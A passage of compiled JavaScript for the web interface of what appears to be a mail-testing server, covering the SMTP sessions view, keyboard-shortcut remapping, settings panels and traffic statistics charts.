      /* @__PURE__ */ a("span", { class: "n", children: count(total) })
    ] }, name)) })
  ] });
}

// src/views/sessions/SessionsScreen.tsx
var EVERY2 = 3e3;
function SessionsScreen() {
  let { q, name } = route.value, [older, setOlder] = d([]), [next, setNext] = d(), newest = useFetched(`sessions ${q}`, (signal) => sessions(q, "", signal), EVERY2);
  A(() => (setOlder([]), setNext(void 0)), [q]);
  let more = async () => {
    let page = await sessions(q, next ?? newest.data?.next ?? "");
    setOlder([...older, ...page.sessions]), setNext(page.next);
  }, first = newest.data?.sessions ?? [], seen = new Set(first.map((one) => one.id)), list = [...first, ...older.filter((one) => !seen.has(one.id))];
  return /* @__PURE__ */ a(Screen, { title: t("sessions.title"), kind: "sessions", tools: /* @__PURE__ */ a(Filter, {}), children: /* @__PURE__ */ a("div", { class: name ? "split detail" : "split", children: [
    /* @__PURE__ */ a("section", { class: "left-side", "aria-label": t("sessions.list"), children: [
      newest.problem && /* @__PURE__ */ a(Failure, { text: newest.problem, again: newest.again }),
      !newest.data && newest.busy && /* @__PURE__ */ a(Waiting, {}),
      newest.data && list.length === 0 && /* @__PURE__ */ a("p", { class: "state", children: q ? t("sessions.noMatch") : t("sessions.none") }),
      list.length > 0 && /* @__PURE__ */ a(Table, { list, chosen: name }),
      (next ?? newest.data?.next) && /* @__PURE__ */ a(Button, { label: t("sessions.more"), kind: "quiet", class: "more", onClick: () => {
        more();
      } })
    ] }),
    name && /* @__PURE__ */ a(Detail, { id: name })
  ] }) });
}
var KINDS2 = ["", "is:refused", "is:empty"];
function Filter() {
  let { q } = route.value, timer = T(0), kinds = KINDS2.map((value) => ({ value, text: t(value === "" ? "sessions.all" : value === "is:refused" ? "sessions.refused" : "sessions.empty") })), words2 = q.split(/\s+/).filter((word) => word && !KINDS2.includes(word)), kind = KINDS2.find((one) => one && q.split(/\s+/).includes(one)) ?? "", say = (parts) => go({ q: parts.filter(Boolean).join(" ") }, !0), type = (text2) => {
    clearTimeout(timer.current), timer.current = window.setTimeout(() => say([kind, ...text2.split(/\s+/)]), 150);
  };
  return /* @__PURE__ */ a($, { children: [
    /* @__PURE__ */ a(Segments, { label: t("sessions.kind"), options: kinds, value: kind, onChange: (value) => say([value, ...words2]) }),
    /* @__PURE__ */ a("input", { class: "inp", type: "search", "aria-label": t("sessions.filter"), placeholder: t("sessions.filterHint"), defaultValue: words2.join(" "), onInput: (event) => type(event.currentTarget.value) })
  ] });
}
function Table({ list, chosen }) {
  return /* @__PURE__ */ a("table", { class: "table", children: [
    /* @__PURE__ */ a("thead", { children: /* @__PURE__ */ a("tr", { children: [
      /* @__PURE__ */ a("th", { scope: "col", children: t("sessions.time") }),
      /* @__PURE__ */ a("th", { scope: "col", children: t("sessions.client") }),
      /* @__PURE__ */ a("th", { scope: "col", class: "roomy", children: "EHLO" }),
      /* @__PURE__ */ a("th", { scope: "col", class: "roomy", children: "TLS" }),
      /* @__PURE__ */ a("th", { scope: "col", class: "roomy", children: t("sessions.user") }),
      /* @__PURE__ */ a("th", { scope: "col", class: "num", children: t("sessions.mails") }),
      /* @__PURE__ */ a("th", { scope: "col", children: t("sessions.result") }),
      /* @__PURE__ */ a("th", { scope: "col", class: "num roomy", children: t("sessions.took") })
    ] }) }),
    /* @__PURE__ */ a("tbody", { children: list.map((one) => /* @__PURE__ */ a(Line, { one, chosen: one.id === chosen }, one.id)) })
  ] });
}
function Line({ one, chosen }) {
  let { client } = one;
  return /* @__PURE__ */ a("tr", { class: chosen ? "chosen" : void 0, onClick: (event) => {
    event.target.closest("a") || getSelection()?.toString() || go({ name: one.id });
  }, children: [
    /* @__PURE__ */ a("td", { children: /* @__PURE__ */ a(Link, { to: { screen: "sessions", q: route.value.q, name: one.id }, current: chosen, children: moment(Date.parse(one.start), now.value) }) }),
    /* @__PURE__ */ a("td", { class: "mono tight", children: host(client.address) }),
    /* @__PURE__ */ a("td", { class: "mono roomy", children: client.hello || "–" }),
    /* @__PURE__ */ a("td", { class: "roomy", children: client.tls?.replace("TLS", "").trim() || "–" }),
    /* @__PURE__ */ a("td", { class: "roomy", children: client.identity || "–" }),
    /* @__PURE__ */ a("td", { class: "num", children: one.accepted }),
    /* @__PURE__ */ a("td", { children: /* @__PURE__ */ a(Result, { one }) }),
    /* @__PURE__ */ a("td", { class: "num roomy", children: took(one.took) })
  ] });
}
function Result({ one }) {
  let bad = /^[45]/.test(one.result);
  return /* @__PURE__ */ a("span", { class: bad ? "result bad" : "result", children: [
    one.open && /* @__PURE__ */ a("span", { class: "chip live small", children: [
      /* @__PURE__ */ a("span", { class: "mark", "aria-hidden": "true" }),
      t("sessions.open")
    ] }),
    one.result ? /* @__PURE__ */ a("span", { class: "mono", children: one.result }) : !one.open && /* @__PURE__ */ a("span", { class: "dim", children: t("sessions.nothing") }),
    one.refused > 0 && !bad && /* @__PURE__ */ a("span", { class: "warned", children: t("sessions.nRefused", { n: one.refused }) })
  ] });
}
function host(address = "") {
  return address.replace(/:\d+$/, "").replace(/^\[|\]$/g, "") || "–";
}
function took(ms) {
  return ms < 10 ? `${ms.toFixed(1)} ms` : ms < 1e4 ? `${Math.round(ms)} ms` : ms < 12e4 ? `${(ms / 1e3).toFixed(1)} s` : `${Math.round(ms / 6e4)} min`;
}
function Detail({ id }) {
  let { data, problem, again } = useFetched(`session ${id}`, (signal) => session(id, signal), EVERY2);
  return /* @__PURE__ */ a("section", { class: "right-side", "aria-label": t("session.transcript"), children: [
    /* @__PURE__ */ a("header", { class: "sidehead", children: [
      /* @__PURE__ */ a("h2", { children: t("session.name", { id }) }),
      /* @__PURE__ */ a(Button, { label: t("act.close"), icon: "close", bare: !0, kind: "quiet", keys: "Esc", onClick: () => go({ name: "" }) })
    ] }),
    problem && !data && /* @__PURE__ */ a(Failure, { text: problem, again }),
    data && /* @__PURE__ */ a($, { children: [
      /* @__PURE__ */ a("dl", { class: "facts", children: [
        /* @__PURE__ */ a("dt", { children: t("sessions.client") }),
        /* @__PURE__ */ a("dd", { children: [
          /* @__PURE__ */ a("code", { children: data.client.address }),
          " · ",
          data.door,
          data.client.tls && ` · ${data.client.tls}`
        ] }),
        data.client.identity && /* @__PURE__ */ a($, { children: [
          /* @__PURE__ */ a("dt", { children: t("delivery.identity") }),
          /* @__PURE__ */ a("dd", { children: /* @__PURE__ */ a("code", { children: data.client.identity }) })
        ] }),
        /* @__PURE__ */ a("dt", { children: t("sessions.took") }),
        /* @__PURE__ */ a("dd", { children: [
          took(data.took),
          data.open && ` · ${t("sessions.open")}`
        ] }),
        data.messages.length > 0 && /* @__PURE__ */ a($, { children: [
          /* @__PURE__ */ a("dt", { children: t("sessions.mails") }),
          /* @__PURE__ */ a("dd", { class: "links", children: data.messages.map((message2) => /* @__PURE__ */ a(Link, { to: { id: message2 }, children: /* @__PURE__ */ a("code", { children: message2 }) }, message2)) })
        ] })
      ] }),
      /* @__PURE__ */ a(Transcript, { of: data })
    ] })
  ] });
}

// src/views/settings/KeyTable.tsx
function put2(binding, key, from) {
  let remap = { ...prefs.value.remap };
  from && (remap[from.keys[0]] = ""), key === binding.keys[0] ? delete remap[key] : remap[binding.keys[0]] = key, prefer({ remap });
}
function unput(binding) {
  let remap = { ...prefs.value.remap };
  delete remap[binding.keys[0]];
  for (let [own, key] of Object.entries(remap)) key === binding.keys[0] && delete remap[own];
  prefer({ remap });
}
function KeyTable() {
  let [editing, setEditing] = d(""), changed2 = Object.keys(prefs.value.remap).length;
  return /* @__PURE__ */ a("details", { class: "keytable", children: [
    /* @__PURE__ */ a("summary", { children: [
      t("keys.change"),
      changed2 > 0 && /* @__PURE__ */ a("span", { class: "n", children: t("keys.changed", { n: changed2 }) })
    ] }),
    /* @__PURE__ */ a("p", { class: "dim", children: t("keys.how") }),
    /* @__PURE__ */ a("ul", { children: bindings.filter((binding) => !FIXED.includes(binding.text)).map((binding) => /* @__PURE__ */ a(Line2, { binding, editing: editing === binding.text, edit: (on) => setEditing(on ? binding.text : "") }, binding.text)) }),
    /* @__PURE__ */ a(Button, { label: t("keys.resetAll"), disabled: changed2 === 0, onClick: () => (setEditing(""), prefer({ remap: {} })) })
  ] });
}
function Line2({ binding, editing, edit }) {
  let own = binding.keys[0], [key = ""] = keysOf(binding), name = t(binding.text);
  return /* @__PURE__ */ a("li", { children: [
    /* @__PURE__ */ a("span", { class: "name", children: name }),
    editing ? /* @__PURE__ */ a(Capture, { binding, done: () => edit(!1) }) : key ? /* @__PURE__ */ a(Stroke, { name: key }) : /* @__PURE__ */ a("span", { class: "dim", children: t("keys.none") }),
    /* @__PURE__ */ a("span", { class: "ends", children: [
      !editing && /* @__PURE__ */ a(Button, { label: t("keys.changeOne", { name }), icon: "keys", bare: !0, kind: "quiet", onClick: () => edit(!0) }),
      own in prefs.value.remap && !editing && /* @__PURE__ */ a(Button, { label: t("keys.resetOne", { name }), icon: "undo", bare: !0, kind: "quiet", onClick: () => unput(binding) })
    ] })
  ] });
}
var OWN = ["Tab", "Shift+Tab", "Shift", "Control", "Alt", "Meta", "Enter", "CapsLock"];
function Capture({ binding, done }) {
  let [prefix, setPrefix] = d(""), [clash, setClash] = d(), asking = T(!1), press = (event) => {
    let pressed = stroke(event);
    if (event.key === "Tab" || OWN.includes(event.key)) return;
    if (event.preventDefault(), event.stopPropagation(), event.key === "Escape") return done();
    if (pressed === "g" && !prefix) return setPrefix("g ");
    let key = prefix + pressed;
    setPrefix("");
    let by = taken(key, binding);
    if (by)
      return asking.current = !0, setClash({ key, by });
    put2(binding, key), done();
  };
  if (clash) {
    let fixed = FIXED.includes(clash.by.text) || clash.by.keys[0] !== clash.key && !(clash.by.keys[0] in prefs.value.remap);
    return /* @__PURE__ */ a("span", { class: "clash", role: "alert", children: [
      /* @__PURE__ */ a(Stroke, { name: clash.key }),
      " ",
      t(fixed ? "keys.fixed" : "keys.taken", { by: t(clash.by.text) }),
      !fixed && /* @__PURE__ */ a(Button, { label: t("keys.take"), onClick: () => (put2(binding, clash.key, clash.by), done()) }),
      /* @__PURE__ */ a(Button, { label: t("act.cancel"), kind: "quiet", onClick: done })
    ] });
  }
  return /* @__PURE__ */ a("input", { class: "inp capture", readOnly: !0, autofocus: !0, "aria-label": t("keys.press"), placeholder: prefix ? t("keys.second") : t("keys.press"), ref: (element) => element?.focus(), onKeyDown: press, onBlur: () => asking.current || done() });
}

// src/views/settings/SettingsScreen.tsx
function SettingsScreen() {
  return /* @__PURE__ */ a(Screen, { title: t("settings.title"), kind: "settings", children: /* @__PURE__ */ a("div", { class: "sections", children: [
    /* @__PURE__ */ a(Look, {}),
    /* @__PURE__ */ a("section", { children: [
      /* @__PURE__ */ a("h2", { children: t("mine.title") }),
      /* @__PURE__ */ a("div", { children: [
        /* @__PURE__ */ a("p", { class: "dim", children: t("mine.why") }),
        /* @__PURE__ */ a(MyAddresses, {})
      ] })
    ] }),
    /* @__PURE__ */ a("section", { children: [
      /* @__PURE__ */ a("h2", { children: t("nav.views") }),
      /* @__PURE__ */ a("div", { children: [
        /* @__PURE__ */ a("p", { class: "dim", children: saved.value.length ? saved.value.map((one) => one.name).join(", ") : t("settings.noViews") }),
        saved.value.length > 0 && /* @__PURE__ */ a(Button, { label: t("view.edit"), icon: "save", onClick: () => layer.value = "save" })
      ] })
    ] }),
    /* @__PURE__ */ a(Notify, {}),
    /* @__PURE__ */ a(Keys, {}),
    /* @__PURE__ */ a(Preview, {}),
    /* @__PURE__ */ a(Server, {})
  ] }) });
}
function Field2({ name, children }) {
  return /* @__PURE__ */ a("p", { class: "setting", children: [
    /* @__PURE__ */ a("span", { children: name }),
    children
  ] });
}
function Look() {
  let { theme, density, pane, clock, zone, announce } = prefs.value;
  return /* @__PURE__ */ a("section", { children: [
    /* @__PURE__ */ a("h2", { children: t("settings.look") }),
    /* @__PURE__ */ a("div", { children: [
      /* @__PURE__ */ a(Field2, { name: t("theme.label"), children: /* @__PURE__ */ a(Segments, { label: t("theme.label"), options: THEMES.map((value) => ({ value, text: t(`theme.${value}`) })), value: theme, onChange: (value) => prefer({ theme: value }) }) }),
      /* @__PURE__ */ a(Field2, { name: t("settings.density"), children: /* @__PURE__ */ a(Segments, { label: t("settings.density"), options: DENSITIES.map((value) => ({ value, text: t("settings.lines", { n: value }) })), value: density, onChange: (value) => prefer({ density: value }) }) }),
      /* @__PURE__ */ a(Field2, { name: t("settings.pane"), children: /* @__PURE__ */ a(Segments, { label: t("settings.pane"), options: PANES.map((value) => ({ value, text: t(`settings.${value}`) })), value: pane, onChange: (value) => prefer({ pane: value }) }) }),
      /* @__PURE__ */ a(Field2, { name: t("settings.clock"), children: /* @__PURE__ */ a(Segments, { label: t("settings.clock"), options: CLOCKS.map((value) => ({ value, text: `${value} h` })), value: clock, onChange: (value) => prefer({ clock: value }) }) }),
      /* @__PURE__ */ a("label", { class: "setting", children: [
        /* @__PURE__ */ a("span", { children: t("settings.zone") }),
        /* @__PURE__ */ a("select", { class: "inp", value: zone, onChange: (event) => prefer({ zone: event.currentTarget.value }), children: [
          /* @__PURE__ */ a("option", { value: "", children: t("settings.zoneOwn", { zone: Intl.DateTimeFormat().resolvedOptions().timeZone }) }),
          ["UTC", ...Intl.supportedValuesOf("timeZone").filter((one) => one !== "UTC")].map((one) => /* @__PURE__ */ a("option", { children: one }, one))
        ] })
      ] }),
      /* @__PURE__ */ a("label", { class: "setting", children: [
        /* @__PURE__ */ a("span", { children: t("settings.announce") }),
        /* @__PURE__ */ a("input", { type: "checkbox", checked: announce, onChange: (event) => prefer({ announce: event.currentTarget.checked }) })
      ] })
    ] })
  ] });
}
function Notify() {
  let { notify, mine } = prefs.value, secure = typeof Notification < "u" && isSecureContext, [denied, setDenied] = d(secure && Notification.permission === "denied"), choices = [[ALL, t("view.all")], ...mine.length ? [[MINE, t("view.mine")]] : [], ...saved.value.map(({ name }) => [name, name])], choose = async (key, on) => {
    prefer({ notify: on ? [...notify, key] : notify.filter((one) => one !== key) }), on && secure && setDenied(await Notification.requestPermission() === "denied");
  };
  return /* @__PURE__ */ a("section", { children: [
    /* @__PURE__ */ a("h2", { children: t("settings.notify") }),
    /* @__PURE__ */ a("div", { children: [
      /* @__PURE__ */ a("p", { class: "dim", children: t(secure ? "settings.notifyWhy" : "settings.notifyPlain") }),
      choices.map(([key, text2]) => /* @__PURE__ */ a("label", { class: "setting", children: [
        key === text2 ? /* @__PURE__ */ a("bdi", { children: text2 }) : /* @__PURE__ */ a("span", { children: text2 }),
        /* @__PURE__ */ a("input", { type: "checkbox", checked: notify.includes(key), onChange: (event) => {
          choose(key, event.currentTarget.checked);
        } })
      ] }, key)),
      denied && notify.length > 0 && /* @__PURE__ */ a("p", { class: "notebar", role: "status", children: t("settings.notifyDenied") })
    ] })
  ] });
}
function Keys() {
  return /* @__PURE__ */ a("section", { children: [
    /* @__PURE__ */ a("h2", { children: t("keys.title") }),
    /* @__PURE__ */ a("div", { children: [
      /* @__PURE__ */ a("label", { class: "setting", children: [
        /* @__PURE__ */ a("span", { children: t("keys.single") }),
        /* @__PURE__ */ a("input", { type: "checkbox", checked: prefs.value.keys, onChange: (event) => prefer({ keys: event.currentTarget.checked }) })
      ] }),
      /* @__PURE__ */ a(Button, { label: t("settings.showKeys"), icon: "keys", onClick: () => layer.value = "keys" }),
      /* @__PURE__ */ a(KeyTable, {})
    ] })
  ] });
}
function Preview() {
  let { width, scheme } = prefs.value;
  return /* @__PURE__ */ a("section", { children: [
    /* @__PURE__ */ a("h2", { children: t("settings.preview") }),
    /* @__PURE__ */ a("div", { children: [
      /* @__PURE__ */ a(Field2, { name: t("html.width"), children: /* @__PURE__ */ a(Segments, { label: t("html.width"), options: WIDTHS.map((value) => ({ value, text: value ? String(value) : t("html.fit") })), value: width, onChange: (value) => prefer({ width: value }) }) }),
      /* @__PURE__ */ a(Field2, { name: t("html.scheme"), children: /* @__PURE__ */ a(Segments, { label: t("html.scheme"), options: SCHEMES.map((value) => ({ value, text: t(`html.${value}`) })), value: scheme, onChange: (value) => prefer({ scheme: value }) }) }),
      /* @__PURE__ */ a(Button, { label: t("settings.reset"), kind: "quiet", onClick: reset })
    ] })
  ] });
}
function Server() {
  let known2 = info.value;
  if (!known2) return null;
  let { limits } = known2, facts = [
    [t("settings.version"), known2.version],
    ["SMTP", known2.smtp],
    ["IMAP", known2.imap],
    ["HTTP", known2.http],
    [t("settings.store"), known2.store],
    [t("rules.title"), known2.table && /* @__PURE__ */ a(Link, { to: { screen: "rules" }, children: known2.table })],
    [t("settings.messageSize"), limits?.messageSize && size(limits.messageSize)],
    [t("settings.keep"), [limits?.age, limits?.messages && t("list.count", { n: limits.messages }), limits?.bytes && size(limits.bytes)].filter(Boolean).join(", ") || t("settings.all")],
    [t("html.remote"), known2.remote ? t("settings.byProxy") : t("settings.never")]
  ];
  return /* @__PURE__ */ a("section", { children: [
    /* @__PURE__ */ a("h2", { children: t("settings.server") }),
    /* @__PURE__ */ a("dl", { class: "facts", children: facts.filter(([, value]) => value).map(([name, value]) => /* @__PURE__ */ a($, { children: [
      /* @__PURE__ */ a("dt", { children: name }),
      /* @__PURE__ */ a("dd", { children: /* @__PURE__ */ a("code", { children: value }) })
    ] })) })
  ] });
}

// src/views/stats/Chart.tsx
var TALL = 100, STEP = 10;
function Area({ title, bars, wide }) {
  let [at2, setAt] = d(-1), most = Math.max(1, ...bars.map((bar) => bar.n)), width = bars.length * STEP, y2 = (n) => TALL - n / most * (TALL - 4), line = bars.map((bar, index) => `${index ? "L" : "M"}${index * STEP + STEP / 2},${y2(bar.n).toFixed(1)}`).join(""), press = (event) => {
    let by = event.key === "ArrowRight" ? 1 : event.key === "ArrowLeft" ? -1 : 0;
    by && (event.preventDefault(), setAt(Math.max(0, Math.min(bars.length - 1, (at2 < 0 ? bars.length - 1 : at2) + by))));
  }, point = (event) => {
    let box = event.currentTarget.getBoundingClientRect();
    setAt(Math.max(0, Math.min(bars.length - 1, Math.floor((event.clientX - box.left) / box.width * bars.length))));
  }, shown = bars[at2], sum = bars.reduce((all, bar) => all + bar.n, 0);
  return /* @__PURE__ */ a("figure", { class: wide ? "chart wide" : "chart", children: [
    /* @__PURE__ */ a("figcaption", { children: [
      /* @__PURE__ */ a("span", { children: title }),
      /* @__PURE__ */ a("span", { class: "n", role: "status", children: shown ? `${shown.text} · ${count(shown.n)}` : t("stats.sum", { n: sum, most }) })
    ] }),
    /* @__PURE__ */ a("div", { class: "plot", tabIndex: 0, role: "group", "aria-label": t("stats.arrows", { title }), onKeyDown: press, onPointerMove: point, onPointerLeave: () => setAt(-1), children: /* @__PURE__ */ a("svg", { viewBox: `0 0 ${width} ${TALL}`, preserveAspectRatio: "none", role: "img", "aria-label": `${title}: ${t("stats.sum", { n: sum, most })}`, children: [
      /* @__PURE__ */ a("path", { class: "fill", d: `${line}L${width - STEP / 2},${TALL}L${STEP / 2},${TALL}Z` }),
      /* @__PURE__ */ a("path", { class: "line", d: line, "vector-effect": "non-scaling-stroke" }),
      at2 >= 0 && /* @__PURE__ */ a("path", { class: "mark", d: `M${at2 * STEP + STEP / 2},0V${TALL}`, "vector-effect": "non-scaling-stroke" })
    ] }) }),
    /* @__PURE__ */ a(Data, { bars })
  ] });
}
function Bars({ title, bars }) {
  let most = Math.max(1, ...bars.map((bar) => bar.n));
  return /* @__PURE__ */ a("section", { class: "chart", "aria-label": title, children: [
    /* @__PURE__ */ a("h2", { children: title }),
    bars.length === 0 && /* @__PURE__ */ a("p", { class: "dim", children: t("stats.nothing") }),
    /* @__PURE__ */ a("ul", { class: "bars", children: bars.map((bar) => /* @__PURE__ */ a("li", { children: [
      /* @__PURE__ */ a("span", { class: "bar", style: { "--part": `${bar.n / most * 100}%` }, "aria-hidden": "true" }),
      bar.to && bar.n > 0 ? /* @__PURE__ */ a(Link, { to: bar.to, class: "name", title: bar.text, children: bar.text }) : /* @__PURE__ */ a("span", { class: "name", children: bar.text }),
      /* @__PURE__ */ a("span", { class: "n", children: count(bar.n) })
    ] }, bar.text)) })
  ] });
}
function Data({ bars }) {
  let [open, setOpen] = d(!1);
  return /* @__PURE__ */ a("details", { class: "data", onToggle: (event) => setOpen(event.currentTarget.open), children: [
    /* @__PURE__ */ a("summary", { children: t("stats.data") }),
    open && /* @__PURE__ */ a("table", { class: "table", children: [
      /* @__PURE__ */ a("thead", { children: /* @__PURE__ */ a("tr", { children: [
        /* @__PURE__ */ a("th", { scope: "col", children: t("sessions.time") }),
        /* @__PURE__ */ a("th", { scope: "col", class: "num", children: t("stats.messages") })
      ] }) }),
      /* @__PURE__ */ a("tbody", { children: bars.map((bar) => /* @__PURE__ */ a("tr", { children: [
        /* @__PURE__ */ a("td", { children: bar.text }),
        /* @__PURE__ */ a("td", { class: "num", children: count(bar.n) })
      ] }, bar.text)) })
    ] })
  ] });
}

// src/views/stats/StatsScreen.tsx
var EVERY3 = 5e3, SPANS = ["1h", "24h", "7d"];
function StatsScreen() {
  let [span, setSpan] = d("1h"), { data, problem, again } = useFetched(`charts ${span}`, (signal) => charts(span, signal), EVERY3), stats2 = useFetched("stats", (signal) => stats(signal), EVERY3), spans = SPANS.map((value) => ({ value, text: t(`stats.${value}`) }));
  return /* @__PURE__ */ a(Screen, { title: t("stats.title"), kind: "stats", tools: /* @__PURE__ */ a(Segments, { label: t("stats.span"), options: spans, value: span, onChange: setSpan }), children: [
    problem && /* @__PURE__ */ a(Failure, { text: problem, again }),
    /* @__PURE__ */ a("dl", { class: "cards", children: [
      /* @__PURE__ */ a(Card, { name: t("stats.now"), value: `${count(Math.round(inbox.rate.value))}/s` }),
      /* @__PURE__ */ a(Card, { name: t("stats.today"), value: data ? count(data.today) : "–" }),
      /* @__PURE__ */ a(Card, { name: t("stats.kept"), value: stats2.data ? count(stats2.data.messages) : "–" }),
      /* @__PURE__ */ a(Card, { name: t("stats.size"), value: stats2.data ? size(stats2.data.bytes) : "–" }),
      /* @__PURE__ */ a(Card, { name: t("stats.oldest"), value: data?.oldest ? since(data.oldest) : "–" }),
      /* @__PURE__ */ a(Card, { name: t("stats.unread"), value: stats2.data ? count(stats2.data.unread) : "–" })
    ] }),
    !data && /* @__PURE__ */ a(Waiting, {}),
    data && /* @__PURE__ */ a(All, { data, span })
  ] });
}
function Card({ name, value }) {
  return /* @__PURE__ */ a("div", { children: [
    /* @__PURE__ */ a("dt", { children: name }),
    /* @__PURE__ */ a("dd", { children: value })
  ] });
}
function since(text2) {
  let past = Math.max(0, now.value - Date.parse(text2)), units = [[864e5, "day"], [36e5, "hour"], [6e4, "minute"], [1e3, "second"]], [span, unit] = units.find(([least]) => past >= least) ?? units[3];
  return new Intl.NumberFormat("en", { style: "unit", unit, unitDisplay: "short" }).format(Math.floor(past / span));
}
function All({ data, span }) {
  let start = Date.parse(data.start), arrivals = data.arrivals.map((n, at2) => ({ text: instant(start + at2 * data.step).replace(/[:.]\d\d\.\d+$/, ""), n }));
  return /* @__PURE__ */ a("div", { class: "charts", children: [
    /* @__PURE__ */ a(Area, { title: t(`stats.per.${span}`), bars: arrivals, wide: !0 }),
    /* @__PURE__ */ a(Bars, { title: t("stats.sizes"), bars: data.sizes.map((bar, at2) => ({ text: band(data.sizes[at2 - 1]?.below, bar.below), n: bar.total })) }),
    /* @__PURE__ */ a(Bars, { title: t("stats.rcpt"), bars: links(data.rcpt, "rcpt") }),
    /* @__PURE__ */ a(Bars, { title: t("stats.from"), bars: links(data.from, "from") }),
    /* @__PURE__ */ a(Bars, { title: t("stats.mbox"), bars: data.mbox.map(({ value, total }) => ({ text: value, n: total, to: { account: value } })) }),
    /* @__PURE__ */ a(Bars, { title: t("stats.rule"), bars: data.rule.map(({ value, total }) => ({ text: shorten(value), n: total, to: { q: `rule:${quoted(value)}` } })) }),
    /* @__PURE__ */ a(Bars, { title: t("stats.refusals"), bars: data.refusals.map(({ value, total }) => ({ text: value, n: total, to: { screen: "sessions", q: `code:${value.slice(0, 3)}` } })) }),
    data.partial && /* @__PURE__ */ a("p", { class: "dim", children: t("stats.partial") })
  ] });
}
function links(facets3, field) {
  return facets3.map(({ value, total }) => ({ text: value, n: total, to: { q: `${field}:${quoted(value)}` } }));
}
function band(from = 0, below) {
  return below === void 0 ? `≥ ${size(from)}` : from ? `${size(from)} – ${size(below)}` : `< ${size(below)}`;
}

// src/screens.tsx
var screens = {
  compare: CompareScreen,
  rules: RulesScreen,
  run: RunScreen,
  sessions: SessionsScreen,
  settings: SettingsScreen,
  stats: StatsScreen
}, layers = {
  inject: InjectSheet,
  links: LinkSheet,
  mine: MineSheet,
  palette: Palette,
  save: ViewSheet,
  tags: TagSheet
};
export {
  layers,
  screens
};
